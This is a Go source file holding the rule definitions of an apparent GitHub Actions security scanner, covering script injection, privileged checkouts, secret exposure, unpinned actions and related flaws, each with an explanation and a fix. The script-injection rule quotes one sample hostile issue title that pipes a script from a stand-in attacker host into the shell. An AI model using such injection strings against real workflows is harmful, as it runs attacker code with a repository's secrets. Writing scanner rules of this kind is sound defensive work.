package audit

import (
	"merlon/internal/engine/cicd/rule"
	"merlon/internal/finding"
)

// Rules are the rules of GitHub Actions.
var Rules = rule.New("cicd/github", "yaml", append(append(codeRules, accessRules...), formRules...)...)

var codeRules = []rule.Text{
	{ID: "template-injection", Name: "Script injection", Severity: finding.High, Confidence: finding.Certain,
		CWE: "CWE-94", Risk: "CICD-SEC-4",
		What: "A value that others choose is put into a script before the script runs.",
		Why:  `GitHub replaces ${{ … }} by its value before the shell sees the script. The title of an issue such as "; curl evil.example | sh #" becomes commands, which run with the token and the secrets of the job.`,
		Fix: "Hand the value over in a variable and quote it: `env: TITLE: ${{ github.event.issue.title }}`, then " +
			"`\"$TITLE\"` in the script. Do not write `${{ env.TITLE }}`: that is the same flaw.",
		Link: "https://docs.github.com/en/actions/reference/security/secure-use"},
	{ID: "expression-in-script", Name: "Template expression in a script", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-94", Risk: "CICD-SEC-4",
		What: "An expression whose value looks harmless is put into a script before the script runs.",
		Why: "Nobody who is not trusted seems to choose the value today. Whether that stays so depends on what else " +
			"changes, and secrets written so end up in the process list.",
		Fix: "Hand the value over in a variable (`env:`) and quote it in the script."},
	{ID: "untrusted-checkout", Name: "Untrusted checkout in a privileged workflow", Severity: finding.Critical,
		Confidence: finding.Certain, CWE: "CWE-829", Risk: "CICD-SEC-4",
		What: "A workflow that runs with the secrets of the repository fetches, and runs, what a stranger proposes.",
		Why: "pull_request_target, workflow_run and issue_comment run with the rights of the base repository. " +
			"Whatever builds the fetched code (package scripts, makefiles, tests, configuration of tools) runs what " +
			"the stranger wrote, with the token and the secrets.",
		Fix: "Build and test in a workflow on `pull_request`, without secrets. Let a second one, which never " +
			"fetches the code, do what needs rights, with the results as data.",
		Link: "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},
	{ID: "environment-injection", Name: "Environment injection through GITHUB_ENV or GITHUB_PATH",
		Severity: finding.Medium, Confidence: finding.Likely, CWE: "CWE-77", Risk: "CICD-SEC-4",
		What: "A value that is not fixed becomes a variable, or a folder of commands, for all later steps.",
		Why: "Who chooses the value can add lines, and so set LD_PRELOAD, NODE_OPTIONS, BASH_ENV or PATH: every " +
			"later step then runs what they want.",
		Fix: "Write to GITHUB_OUTPUT instead, and read it where it is needed. Where a variable must be set, check " +
			"the value against a strict pattern first."},
	{ID: "argument-injection", Name: "Argument injection into sed, awk or perl", Severity: finding.Medium,
		Confidence: finding.Likely, CWE: "CWE-88", Risk: "CICD-SEC-4",
		What: "A stranger's text becomes part of a program for sed, awk or perl.",
		Why: "The shell leaves the text alone, but these programs have commands of their own: sed's e flag and " +
			"awk's system() run what the text says, with the token and the secrets of the job.",
		Fix: "Hand the text over as data: `awk -v title=\"$TITLE\"`, `ENVIRON[\"TITLE\"]`, or a small script that " +
			"replaces plain text."},
	{ID: "output-clobbering", Name: "GITHUB_OUTPUT clobbering", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-74", Risk: "CICD-SEC-4",
		What: "A stranger's text of several lines is written to GITHUB_OUTPUT beside other outputs.",
		Why: "Each line of the file is an output of its own. A line break in the text begins another one, and the " +
			"last of a name counts: later steps take the stranger's value for the script's.",
		Fix: "Write such texts with a delimiter that nobody can guess (`NAME<<$(uuidgen)`), or in a step of " +
			"their own."},
	{ID: "artifact-poisoning", Name: "Artifact poisoning", Severity: finding.High, Confidence: finding.Likely,
		CWE: "CWE-829", Risk: "CICD-SEC-9",
		What: "A privileged job takes up an artifact of a run, or of a job, that worked on a stranger's code.",
		Why: "The first run works on a stranger's code, so all that it uploads is the stranger's choice. Unpacked " +
			"over the working folder it replaces scripts and tools that the privileged run starts.",
		Fix: "Unpack into a folder of its own below `${{ runner.temp }}`, take single values out of it, and check " +
			"their form."},
	{ID: "cache-poisoning", Name: "CI cache poisoning", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-345", Risk: "CICD-SEC-9",
		What: "A workflow that publishes restores a cache that other runs could fill, or one that runs for the " +
			"default branch fills it with a stranger's files.",
		Why: "Caches are shared between workflows of a branch and those based on it. Code that gets to run anywhere " +
			"there can leave a changed cache, and the release is built from it.",
		Fix: "Build releases without a cache: switch the cache of the set-up action off, or leave the step out when " +
			"tags or releases start the workflow."},
	{ID: "remote-script", Name: "Remote script executed without integrity check", Severity: finding.Low,
		Confidence: finding.Likely, CWE: "CWE-494", Risk: "CICD-SEC-3",
		What: "A script is fetched from the network and run at once.",
		Why:  "Whoever controls the server or the address controls the job. What ran cannot be looked at afterwards.",
		Fix: "Fetch a fixed version, check its digest, then run it; or use a package or an action that is fixed by " +
			"a digest."},
	{ID: "adhoc-packages", Name: "Package installed without a lock file", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-1357", Risk: "CICD-SEC-3",
		What: "A step installs packages that no lock file fixes.",
		Why: "The newest version of the package, or of those that it needs, runs in the job the moment that it is " +
			"published, stolen versions too.",
		Fix: "Add the package to the manifest, keep the lock file in the repository, and install with `npm ci`, " +
			"`yarn install --immutable`, `bundle install` with a frozen lock file."},
	{ID: "request-collector", Name: "Data sent to a request-capture service", Severity: finding.High,
		Confidence: finding.Likely, CWE: "CWE-200", Risk: "CICD-SEC-6",
		What: "A script sends something to a service that shows requests to anybody.",
		Why:  "Such addresses are left over from trying things out, or put there to carry secrets away.",
		Fix:  "Remove the line; when you do not know it, revoke the secrets that the job had."},
	{ID: "insecure-commands", Name: "Insecure workflow commands enabled", Severity: finding.High,
		Confidence: finding.Certain, CWE: "CWE-77", Risk: "CICD-SEC-4",
		What: "ACTIONS_ALLOW_UNSECURE_COMMANDS lets what a step prints set variables.",
		Why: "::set-env and ::add-path were switched off (CVE-2020-15228) because anything that prints a stranger's " +
			"text, such as a test's name, then controls the steps that follow.",
		Fix: "Remove the variable, and write to $GITHUB_ENV and $GITHUB_PATH where needed."},
}

var accessRules = []rule.Text{
	{ID: "dangerous-trigger", Name: "Dangerous workflow trigger", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-284", Risk: "CICD-SEC-4",
		What: "The workflow runs with the repository's rights on what strangers cause.",
		Why: "pull_request_target and workflow_run have the secrets and a token that may write. Any slip in such a " +
			"workflow, an expression in a script, a fetched file, a variable, lets strangers in.",
		Fix: "Use `pull_request` where no secret is needed. Otherwise keep the workflow short, fetch nothing of the " +
			"pull request, and set `permissions` to the least."},
	{ID: "excessive-permissions", Name: "Excessive token permissions", Severity: finding.Medium,
		Confidence: finding.Likely, CWE: "CWE-272", Risk: "CICD-SEC-5",
		What: "The token of jobs may do more than they need.",
		Why: "Every step and every action of every job has the token. One that goes astray can push code, publish " +
			"packages or approve changes with it.",
		Fix: "Set `permissions: {}` for the workflow and give each job the ones that it needs."},
	{ID: "missing-permissions", Name: "Missing permissions block", Severity: finding.Low, Confidence: finding.Likely,
		CWE: "CWE-276", Risk: "CICD-SEC-5",
		What: "Nothing says what the token of the job may do.",
		Why: "The default of the repository or the organization counts. In older ones it lets every job write " +
			"nearly everything, and it can change without anybody looking at the workflow.",
		Fix: "Set `permissions` for the workflow, for example `contents: read`, and more only for the jobs that " +
			"need it."},
	{ID: "persisted-credentials", Name: "Persisted checkout credentials", Severity: finding.Low,
		Confidence: finding.Likely, CWE: "CWE-522", Risk: "CICD-SEC-6",
		What: "The checkout leaves its token on the disk.",
		Why: "Later steps, and whatever they run, can read it, and an artifact of the whole folder gives it to " +
			"everybody who can download it.",
		Fix: "Set `persist-credentials: false`, and hand the token to the one step that pushes."},
	{ID: "secrets-inherit", Name: "All secrets inherited by a reusable workflow", Severity: finding.Medium,
		Confidence: finding.Likely, CWE: "CWE-272", Risk: "CICD-SEC-6",
		What: "A reusable workflow gets every secret of the repository.",
		Why:  "It, and every action in it, can read secrets that it has nothing to do with.",
		Fix:  "Name the secrets that it needs below `secrets:`."},
	{ID: "overprovisioned-secrets", Name: "Overprovisioned secrets", Severity: finding.Medium,
		Confidence: finding.Certain, CWE: "CWE-272", Risk: "CICD-SEC-6",
		What: "The whole secrets context, or one member of it that is not known beforehand, is taken.",
		Why:  "The runner then gets every secret of the repository and the organization, and so does what runs on it.",
		Fix:  "Name each secret: `${{ secrets.NAME }}`."},
	{ID: "unredacted-secret", Name: "Unmasked part of a secret", Severity: finding.Medium, Confidence: finding.Certain,
		CWE: "CWE-532", Risk: "CICD-SEC-6",
		What: "A part of a secret is taken out of it.",
		Why: "The log hides the text of the secret as a whole. A member of a JSON secret is another text and " +
			"is shown.",
		Fix: "Store each value as a secret of its own."},
	{ID: "secrets-outside-environment", Name: "Secret outside a protected environment", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-272", Risk: "CICD-SEC-6",
		What: "A job uses a secret that every job of the repository can use.",
		Why:  "Secrets of an environment are given out under its rules only: after a review, on certain branches.",
		Fix:  "Move the secret into an environment with protection rules and name it in the job (`environment:`)."},
	{ID: "secret-in-log", Name: "Secret written to the log", Severity: finding.Medium, Confidence: finding.Certain,
		CWE: "CWE-532", Risk: "CICD-SEC-6",
		What: "A script prints secrets into the log.",
		Why: "GitHub hides the exact text only. Cut, encoded or escaped it stands there for everybody who can read " +
			"the log.",
		Fix: "Print nothing that holds a secret, and leave out `set -x`, `env` and `printenv` where there are some."},
	{ID: "container-credentials", Name: "Hard-coded container registry password", Severity: finding.High,
		Confidence: finding.Certain, CWE: "CWE-798", Risk: "CICD-SEC-6",
		What: "The password for a container registry is written in the workflow.",
		Why:  "Whoever can read the repository can use it.",
		Fix:  "Revoke it, store a new one as a secret, and write `${{ secrets.NAME }}`."},
	{ID: "self-hosted-runner", Name: "Self-hosted runner on a public repository", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-668", Risk: "CICD-SEC-7",
		What: "A job runs on a machine of your own.",
		Why: "What one run leaves behind the next one finds. Where strangers can start the job, they get onto the " +
			"machine and what it can reach.",
		Fix: "Use hosted runners for what strangers can start, or fresh machines for each job, in a network of " +
			"their own."},
	{ID: "spoofable-actor", Name: "Spoofable actor check", Severity: finding.High, Confidence: finding.Certain,
		CWE: "CWE-290", Risk: "CICD-SEC-1",
		What: "A condition takes the actor of the last event for the author.",
		Why: "github.actor is whoever caused the last event. A stranger can get a bot to cause one on their pull " +
			"request, for example by making it update it, and the condition holds for their code.",
		Fix: "Compare `github.event.pull_request.user.login`, and `github.repository` with the head's repository."},
	{ID: "github-app", Name: "Excessive GitHub App token permissions", Severity: finding.Medium,
		Confidence: finding.Likely, CWE: "CWE-272", Risk: "CICD-SEC-5",
		What: "The token of a GitHub App can do more, or lives longer, than the job needs.",
		Why: "The app's token is not bound by `permissions`. Without limits it has every right of the installation, " +
			"on every repository of the owner.",
		Fix: "Name `repositories` and `permission-…` inputs, and leave `skip-token-revoke` out."},
	{ID: "debug-mode", Name: "Debug logging enabled", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-489", Risk: "CICD-SEC-10",
		What: "Debug logs or a door into the runner are left on.",
		Why: "Debug logs show inputs and variables; a shell session gives the job's token and secrets to whoever " +
			"connects.",
		Fix: "Remove it, or limit it to runs by hand and to the person who started them."},
	{ID: "use-trusted-publishing", Name: "Package published without trusted publishing", Severity: finding.Low,
		Confidence: finding.Likely, CWE: "CWE-522", Risk: "CICD-SEC-6",
		What: "A package is published with a password that does not expire.",
		Why: "The registry accepts the job's own short-lived identity. A stored token can be stolen and used at " +
			"any time.",
		Fix: "Register the workflow as a trusted publisher at the registry, give the job `id-token: write`, and " +
			"delete the token."},
	{ID: "dependabot-execution", Name: "Dependency updates execute external code", Severity: finding.Medium,
		Confidence: finding.Certain, CWE: "CWE-829", Risk: "CICD-SEC-3",
		What: "Dependabot may run code of dependencies while it updates them.",
		Why:  "A stolen package runs in the update job, with its access to private registries.",
		Fix:  "Remove `insecure-external-code-execution: allow`."},
	{ID: "dependabot-cooldown", Name: "Dependency updates without a cooldown", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-1357", Risk: "CICD-SEC-3",
		What: "Dependabot proposes new versions the day that they appear.",
		Why:  "Stolen packages are mostly found and removed within days.",
		Fix:  "Set `cooldown:` with `default-days: 7`. Security updates are not delayed by it."},
}

var formRules = []rule.Text{
	{ID: "unpinned-uses", Name: "Unpinned action", Severity: finding.Medium, Confidence: finding.Likely, CWE: "CWE-829",
		Risk: "CICD-SEC-3",
		What: "An action or reusable workflow is named by a tag or a branch.",
		Why: "Tags and branches can be moved, by the maintainer or by whoever took over the account. That has " +
			"happened to widely used actions; all who named a tag ran the new code at once.",
		Fix: "Name the full commit, with the version as a comment: `uses: owner/name@<40 digits> # v1.2.3`. Update " +
			"bots keep both current.",
		Link: "https://docs.github.com/en/actions/reference/security/secure-use"},
	{ID: "unpinned-image", Name: "Unpinned container image", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-1357", Risk: "CICD-SEC-3",
		What: "A container image is not fixed by its digest.",
		Why:  "A tag can be moved to another image, which then runs in the job.",
		Fix:  "Name the digest: `image: name:1.2@sha256:…`."},
	{ID: "unpinned-tool", Name: "Unpinned tool version", Severity: finding.Medium, Confidence: finding.Likely,
		CWE: "CWE-1357", Risk: "CICD-SEC-3",
		What: "An action fetches the newest version of a tool.",
		Why:  "The action is fixed, what it runs is not.",
		Fix:  "Give the version of the tool."},
	{ID: "known-vulnerable-action", Name: "Action with a known vulnerability", Severity: finding.High,
		Confidence: finding.Certain, CWE: "CWE-1395", Risk: "CICD-SEC-3",
		What: "The version of an action has a known flaw.",
		Why:  "The flaw is public, and so is how it is used.",
		Fix:  "Use the version that the finding names or a later one, by its commit."},
	{ID: "archived-action", Name: "Archived action", Severity: finding.Low, Confidence: finding.Certain,
		CWE: "CWE-1104", Risk: "CICD-SEC-3",
		What: "An action is archived.",
		Why:  "Flaws in it, and in what it brings along, are not mended any more.",
		Fix:  "Use what its page recommends, or do the same in a script."},
	{ID: "typosquat-uses", Name: "Typosquatting", Severity: finding.Medium, Confidence: finding.Likely, CWE: "CWE-1357",
		Risk: "CICD-SEC-3",
		What: "The name of an action is one slip away from a well-known one with another owner.",
		Why:  "Such names are registered to catch slips; the action then runs somebody else's code.",
		Fix:  "Correct the name."},
	{ID: "workspace-action", Name: "Local action from untrusted files", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-829", Risk: "CICD-SEC-4",
		What: "A local action is read from a folder that an earlier step filled with something else.",
		Why: "`./` is the folder as it is when the step runs. After a checkout of another ref or repository the " +
			"action is another one too.",
		Fix: "Check other things out into a folder of their own (`path:`)."},
	{ID: "superfluous-action", Name: "Superfluous action", Severity: finding.Low, Confidence: finding.Uncertain,
		CWE: "CWE-1357", Risk: "CICD-SEC-3",
		What: "An action does what a tool on the runner does.",
		Why:  "Each action is code of others with the job's token.",
		Fix:  "Call the tool that the finding names in a script."},
	{ID: "unsound-condition", Name: "Condition always true", Severity: finding.High, Confidence: finding.Certain,
		CWE: "CWE-571", Risk: "CICD-SEC-1",
		What: "A condition has text around its expression and is always true.",
		Why: "With anything outside of ${{ … }}, a line break too, the condition is a text, and every text but the " +
			"empty one is true.",
		Fix: "Write the whole condition as one expression, and `if: >-` or `|-` for several lines."},
	{ID: "unsound-contains", Name: "Unsound contains condition", Severity: finding.High, Confidence: finding.Certain,
		CWE: "CWE-697", Risk: "CICD-SEC-1",
		What: "contains() looks for a name within a text instead of a list.",
		Why:  "Every part of the text passes: a branch called `mai` is in 'refs/heads/main'.",
		Fix:  "Compare with ==, or look in a list: `contains(fromJSON('[\"main\", \"develop\"]'), github.ref_name)`."},
	{ID: "unsound-ternary", Name: "Unsound ternary expression", Severity: finding.Low, Confidence: finding.Certain,
		CWE: "CWE-480", Risk: "CICD-SEC-1",
		What: "In a && b || c the value b is false or empty, so that c is taken always.",
		Why:  "The expression looks like a choice and is none.",
		Fix:  "Turn the condition round: `!a && c || b`, or use a value that is true."},
	{ID: "obfuscation", Name: "Obfuscated script", Severity: finding.Low, Confidence: finding.Uncertain,
		CWE: "CWE-1120", Risk: "CICD-SEC-1",
		What: "A path or an expression is written in a roundabout way.",
		Why:  "It hides from reviewers and from simple checks what is used.",
		Fix:  "Write what it comes to."},
	{ID: "misfeature", Name: "Discouraged feature", Severity: finding.Low, Confidence: finding.Likely, CWE: "CWE-477",
		Risk: "CICD-SEC-3",
		What: "The workflow uses a feature that has no safe way to be used.",
		Why: "cmd has no way to quote other people's values reliably; `pip-install` changes the interpreter for all " +
			"later steps without a lock file.",
		Fix: "Use bash or PowerShell; install into a virtual environment from a lock file."},
	{ID: "anonymous-definition", Name: "Unnamed workflow or job", Severity: finding.Low, Confidence: finding.Uncertain,
		CWE: "CWE-1059", Risk: "CICD-SEC-1",
		What: "A workflow, job or action has no name.",
		Why:  "Lists of runs show its file's path, which says less to those who look for what is out of the ordinary.",
		Fix:  "Add `name:`."},
	{ID: "undocumented-permission", Name: "Undocumented permission", Severity: finding.Low,
		Confidence: finding.Uncertain, CWE: "CWE-1059", Risk: "CICD-SEC-5",
		What: "Nothing says why the token needs a permission.",
		Why:  "Rights whose reason nobody knows are never taken away.",
		Fix:  "Write the reason in a comment behind the permission."},
	{ID: "missing-concurrency", Name: "Missing concurrency limit", Severity: finding.Low, Confidence: finding.Uncertain,
		CWE: "CWE-770", Risk: "CICD-SEC-7",
		What: "Nothing limits how many runs of the workflow go on at once.",
		Why:  "Superseded runs go on, cost time on runners, and can deploy an older state after a newer one.",
		Fix:  "Set `concurrency:` with a `group` and `cancel-in-progress`."},
}
